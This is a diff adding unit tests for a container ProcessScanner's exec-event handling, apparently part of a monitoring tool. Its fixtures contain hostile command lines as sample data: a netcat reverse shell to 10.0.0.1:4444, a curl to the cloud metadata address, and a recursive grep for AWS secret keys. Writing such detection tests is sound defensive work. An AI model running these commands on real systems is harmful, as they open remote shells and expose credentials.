@@ -166,3 +166,56 @@ describe('ProcessScanner', () => {
     expect(s.ioTotal('coi-ab12cd34-1')).toEqual({ readBytes: 0, writeBytes: 0 });
   });
 });
+
+describe('ProcessScanner: exec events', () => {
+  const exec = (pid: number, argv: string[], startSec = 999.9, container = 'coi-ab12cd34-1') => ({
+    kind: 'exec' as const,
+    at: process.hrtime.bigint(),
+    pid,
+    ppid: 1,
+    startMs: Math.round(startSec * 100) * 10,
+    container,
+    argv,
+  });
+
+  it('sees a process that exited before any scan, with the command line read at its exec', () => {
+    const { s, commands } = scanner();
+    s.observeExec(exec(100, ['sh', '-c', 'nc -e /bin/sh 10.0.0.1 4444']));
+    expect(commands.map((c) => [c.pid, c.ppid, c.command])).toEqual([
+      [100, 1, 'sh -c nc -e /bin/sh 10.0.0.1 4444'],
+    ]);
+    // Timed from the exec itself: well under the 10 ms of a /proc start tick.
+    expect(commands[0]!.ageMs).toBeLessThan(5);
+    s.scan();
+    expect(commands).toHaveLength(1);
+  });
+
+  it('one process, one sighting: the scan and the event do not both report a command line', () => {
+    fakeProcess(100, { cgroup: CONTAINER_CGROUP, argv: ['curl', 'http://169.254.169.254/'] });
+    const { s, commands } = scanner();
+    s.scan();
+    s.observeExec(exec(100, ['curl', 'http://169.254.169.254/']));
+    s.scan();
+    s.observeExec(exec(101, ['true']));
+    s.scan();
+    expect(commands.map((c) => c.pid)).toEqual([100, 101]);
+  });
+
+  it('an exec chain is one process with its earlier command line; a reused PID is a new one', () => {
+    const { s, commands } = scanner();
+    s.observeExec(exec(100, ['sh', '-c', 'exec grep -r aws_secret_access_key /']));
+    s.observeExec(exec(100, ['grep', '-r', 'aws_secret_access_key', '/']));
+    s.observeExec(exec(100, ['grep', '-r', 'aws_secret_access_key', '/'], 1200));
+    expect(commands.map((c) => [c.command, c.previousArgv])).toEqual([
+      ['sh -c exec grep -r aws_secret_access_key /', undefined],
+      ['grep -r aws_secret_access_key /', ['sh', '-c', 'exec grep -r aws_secret_access_key /']],
+      ['grep -r aws_secret_access_key /', undefined],
+    ]);
+  });
+
+  it('ignores execs in containers it does not watch', () => {
+    const { s, commands } = scanner();
+    s.observeExec(exec(300, ['nc', '-e', 'sh'], 999.9, 'other-1'));
+    expect(commands).toEqual([]);
+  });
+});
